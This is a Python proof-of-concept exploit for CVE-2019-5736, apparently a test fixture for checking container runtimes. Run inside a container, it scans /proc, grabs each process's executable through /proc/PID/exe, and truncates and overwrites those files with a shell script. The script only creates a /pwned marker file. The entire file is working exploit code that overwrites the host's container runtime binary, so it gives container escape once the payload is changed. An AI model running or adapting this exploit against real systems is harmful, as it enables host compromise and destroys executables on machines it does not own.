# SPDX-License-Identifier: Apache-2.0
"""A container's program that overwrites the file of the runtime which enters the container (CVE-2019-5736).

usage: overwrite_runtime.py DIRECTORY
Opens /proc/PID/exe of each process, and writes a script to each file that isn't Python's as soon as the kernel allows it, until
DIRECTORY/end exists.  DIRECTORY/tried has a line for each: the file, or the pid where the file can't be opened.  Alone: it
overwrites what it can, so only in a container.
"""
import os
import sys

SCRIPT = b"#!/bin/sh\ntouch /pwned\n"


def note(directory, text):
    with open(directory + "/tried", "a") as file:
        file.write(text + "\n")


def open_program(directory, pid, own):
    """Returns a descriptor of the process's file unless it is our own file, and whether the process was looked at."""
    try:
        fd = os.open(f"/proc/{pid}/exe", os.O_RDONLY)
    except OSError:
        note(directory, pid)
        return None, False
    if os.path.samestat(os.fstat(fd), own):
        os.close(fd)
        return None, True
    note(directory, os.readlink(f"/proc/self/fd/{fd}"))
    return fd, True


def main():
    directory = sys.argv[1]
    own = os.stat("/proc/self/exe")
    seen, caught = set(), []
    while not os.path.exists(directory + "/end"):
        for pid in os.listdir("/proc"):
            if not pid.isdigit() or pid in seen:
                continue
            fd, is_seen = open_program(directory, pid, own)
            if is_seen:
                seen.add(pid)
            if fd is not None:
                caught.append(fd)
        for fd in caught:
            try:
                os.write(os.open(f"/proc/self/fd/{fd}", os.O_WRONLY | os.O_TRUNC), SCRIPT)
            except OSError:
                pass


main()
